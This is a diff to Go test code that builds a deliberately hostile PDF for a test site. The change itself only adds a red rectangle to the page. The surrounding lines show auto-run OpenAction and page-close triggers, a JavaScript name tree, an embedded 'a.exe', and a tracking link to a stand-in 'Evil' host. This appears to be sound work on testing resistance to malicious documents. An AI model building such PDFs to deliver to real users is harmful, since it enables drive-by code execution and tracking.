@@ -22,7 +22,7 @@ func (s *Site) pdf(w http.ResponseWriter, r *http.Request) {
 
 func hostilePDF(n names) []byte {
 	link := n.Evil + "/reached/pdf-link?" + n.Token
-	content := "BT /F1 40 Tf 60 700 Td (Attestation) Tj 0 -60 Td (" + n.Token + ") Tj ET"
+	content := "1 0 0 rg 60 760 200 40 re f 0 g BT /F1 40 Tf 60 700 Td (Attestation) Tj 0 -60 Td (" + n.Token + ") Tj ET"
 	return testsite.PDF(
 		"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> /JavaScript << /Names [(a) 6 0 R] >> >> >>",
 		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
